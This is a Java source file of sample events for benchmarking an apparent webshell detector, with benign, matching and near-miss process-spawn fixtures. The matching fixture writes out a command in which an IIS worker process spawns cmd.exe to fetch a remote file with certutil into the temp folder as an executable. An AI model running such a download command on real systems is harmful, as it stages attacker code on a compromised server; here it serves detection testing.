package dev.webshell.jmh;

import dev.webshell.detector.event.Timestamps;
import dev.webshell.detector.generator.EventFactory;
import dev.webshell.detector.registry.ConfluentAvroSerializer;
import dev.webshell.detector.registry.MockSchemaRegistryClient;
import dev.webshell.schema.DeviceProcessEvent;
import java.time.Instant;

/** Full-width sample events, as the generator and {@code detector bench} make them. */
final class Events {
  static final MockSchemaRegistryClient REGISTRY = new MockSchemaRegistryClient();
  static final EventFactory.Spawn BENIGN =
      new EventFactory.Spawn(
          "explorer.exe",
          "chrome.exe",
          "chrome.exe",
          "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer"
              + " --lang=en-US --renderer-client-id=7",
          "jdoe");
  static final EventFactory.Spawn MATCH =
      new EventFactory.Spawn(
          "svchost.exe",
          "w3wp.exe",
          "cmd.exe",
          "cmd.exe /c certutil -urlcache -split -f http://203.0.113.7/a.txt %TEMP%\\a.exe",
          "DefaultAppPool");

  /** A web server spawning a shell without a discovery command: the whole predicate runs. */
  static final EventFactory.Spawn NEAR_MISS =
      new EventFactory.Spawn(
          "svchost.exe",
          "w3wp.exe",
          "cmd.exe",
          "cmd /c echo ok > C:\\inetpub\\logs\\health.txt",
          "DefaultAppPool");

  private Events() {}

  static DeviceProcessEvent event(EventFactory.Spawn spawn) {
    return new EventFactory(42).event(Timestamps.toMicros(Instant.now()), 10, spawn);
  }

  static byte[] avro(DeviceProcessEvent e) {
    return ConfluentAvroSerializer.<DeviceProcessEvent>forValues(REGISTRY).serialize("events", e);
  }
}
